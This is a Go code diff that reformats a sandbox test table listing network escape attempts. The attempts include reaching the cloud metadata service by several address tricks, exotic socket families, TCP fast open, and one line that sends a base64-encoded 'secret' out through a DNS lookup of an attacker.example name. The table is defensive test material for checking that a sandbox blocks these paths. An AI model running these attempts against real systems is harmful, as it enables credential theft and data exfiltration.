@@ -100,7 +100,8 @@ func networkAttempts() []attempt {
 		{name: "connect to the store by IPv6", attack: to("ipv6", "::1")},
 		{name: "connect to the store by a mapped address", attack: to("store", "::ffff:127.0.0.1")},
 		{name: "connect to the store by the unspecified IPv6 address", attack: to("ipv6", "::")},
-		{name: "connect to the store by a NAT64 address", attack: to("store", "64:ff9b::7f00:1"), hostMayRefuse: noNetwork, named: "64:ff9b"},
+		{name: "connect to the store by a NAT64 address", attack: to("store", "64:ff9b::7f00:1"), hostMayRefuse: noNetwork,
+			named: "64:ff9b"},
 		{name: "connect to the store by the host's address", attack: func(w world) error {
 			host, err := hostAddress("udp4")
 			if err != nil {
@@ -108,16 +109,23 @@ func networkAttempts() []attempt {
 			}
 			return reaches("tcp", net.JoinHostPort(host, port(w.Store["any"])))
 		}, hostMayRefuse: noNetwork},
-		{name: "connect to the metadata service", attack: func(world) error { return reaches("tcp4", "169.254.169.254:8080") },
+		{name: "connect to the metadata service", attack: func(world) error {
+			return reaches("tcp4",
+				"169.254.169.254:8080")
+		},
 			hostMayRefuse: noNetwork, named: "connect to 169.254.169.254:8080"},
 		{name: "connect to the metadata service by a mapped address", attack: func(world) error {
 			return rawConnect6("::ffff:169.254.169.254", 8080)
 		}, hostMayRefuse: noNetwork, named: "169.254.169.254"},
-		{name: "connect to the metadata service by IPv6", attack: func(world) error { return reaches("tcp6", "[fd00:ec2::254]:80") },
+		{name: "connect to the metadata service by IPv6",
+			attack:        func(world) error { return reaches("tcp6", "[fd00:ec2::254]:80") },
 			hostMayRefuse: noNetwork, named: "fd00:ec2::254"},
-		{name: "connect to a port that is not listed", attack: func(world) error { return reaches("tcp", "192.0.2.77:25") }, hostMayRefuse: noNetwork, named: "192.0.2.77:25"},
+		{name: "connect to a port that is not listed", attack: func(world) error { return reaches("tcp", "192.0.2.77:25") },
+			hostMayRefuse: noNetwork, named: "192.0.2.77:25"},
 		{name: "rewrite the address while the connection is judged", attack: rewriteAddress},
-		{name: "connect by the first datagram", named: "MSG_FASTOPEN", attack: func(w world) error { return fastOpen(w.Store["store"]) }, hostMayRefuse: "a kernel whose client has no TCP fast open"},
+		{name: "connect by the first datagram", named: "MSG_FASTOPEN",
+			attack:        func(w world) error { return fastOpen(w.Store["store"]) },
+			hostMayRefuse: "a kernel whose client has no TCP fast open"},
 		{name: "send datagrams to the host", attack: func(w world) error { return echoes(w.Echo["ipv4"]) }},
 		{name: "send datagrams to the host by IPv6", attack: func(w world) error { return echoes(w.Echo["ipv6"]) }},
 		{name: "send datagrams to the host's address", attack: func(w world) error {
@@ -127,18 +135,26 @@ func networkAttempts() []attempt {
 			}
 			return echoes(net.JoinHostPort(host, port(w.Echo["any"])))
 		}, hostMayRefuse: noNetwork},
-		{name: "ask a name server of its own choice", attack: func(world) error { return echoes("192.0.2.53:53") }, hostMayRefuse: noNetwork},
+		{name: "ask a name server of its own choice", attack: func(world) error { return echoes("192.0.2.53:53") },
+			hostMayRefuse: noNetwork},
 		{name: "carry data out in a name", attack: func(world) error { return resolveName("c2VjcmV0.attacker.example") },
 			hostMayRefuse: "a machine without a resolver", named: "c2vjcmv0.attacker.example"},
-		{name: "connect to an abstract socket of the host", attack: func(w world) error { return reaches("unix", w.Abstract) }},
+		{name: "connect to an abstract socket of the host",
+			attack: func(w world) error { return reaches("unix", w.Abstract) }},
 		{name: "connect to a socket of another workspace", attack: func(w world) error { return reaches("unix", w.Socket) }},
 		{name: "open a raw socket", named: "raw socket", attack: family(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)},
-		{name: "open a raw socket of IPv6", named: "raw socket", attack: family(unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6)},
-		{name: "open a packet socket", named: "packet", attack: family(unix.AF_PACKET, unix.SOCK_RAW, 0), hostMayRefuse: noFamilies},
-		{name: "listen to the kernel's events", named: "netlink", attack: family(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_KOBJECT_UEVENT)},
-		{name: "list the sockets of the host", named: "netlink", attack: family(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_SOCK_DIAG), hostMayRefuse: noFamilies},
-		{name: "open a socket of the hypervisor", named: "vsock", attack: family(unix.AF_VSOCK, unix.SOCK_STREAM, 0), hostMayRefuse: noFamilies},
-		{name: "open a socket of the kernel's ciphers", named: "alg", attack: family(unix.AF_ALG, unix.SOCK_SEQPACKET, 0), hostMayRefuse: noFamilies},
+		{name: "open a raw socket of IPv6", named: "raw socket", attack: family(unix.AF_INET6, unix.SOCK_RAW,
+			unix.IPPROTO_ICMPV6)},
+		{name: "open a packet socket", named: "packet", attack: family(unix.AF_PACKET, unix.SOCK_RAW, 0),
+			hostMayRefuse: noFamilies},
+		{name: "listen to the kernel's events", named: "netlink", attack: family(unix.AF_NETLINK, unix.SOCK_RAW,
+			unix.NETLINK_KOBJECT_UEVENT)},
+		{name: "list the sockets of the host", named: "netlink", attack: family(unix.AF_NETLINK, unix.SOCK_RAW,
+			unix.NETLINK_SOCK_DIAG), hostMayRefuse: noFamilies},
+		{name: "open a socket of the hypervisor", named: "vsock", attack: family(unix.AF_VSOCK, unix.SOCK_STREAM, 0),
+			hostMayRefuse: noFamilies},
+		{name: "open a socket of the kernel's ciphers", named: "alg", attack: family(unix.AF_ALG, unix.SOCK_SEQPACKET, 0),
+			hostMayRefuse: noFamilies},
 		{name: "bring up a network", attack: func(world) error {
 			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
 			if err != nil {
@@ -212,7 +228,8 @@ func fastOpen(address string) error {
 	}
 	defer unix.Close(fd)
 	raw, text := sockaddr4(address), []byte("hello")
-	if _, _, errno := unix.Syscall6(unix.SYS_SENDTO, uintptr(fd), uintptrOf(text), uintptr(len(text)), unix.MSG_FASTOPEN, uintptrOf(raw[:]), uintptr(len(raw))); errno != 0 {
+	if _, _, errno := unix.Syscall6(unix.SYS_SENDTO, uintptr(fd), uintptrOf(text), uintptr(len(text)), unix.MSG_FASTOPEN,
+		uintptrOf(raw[:]), uintptr(len(raw))); errno != 0 {
 		return errno
 	}
 	greeting := make([]byte, 5)
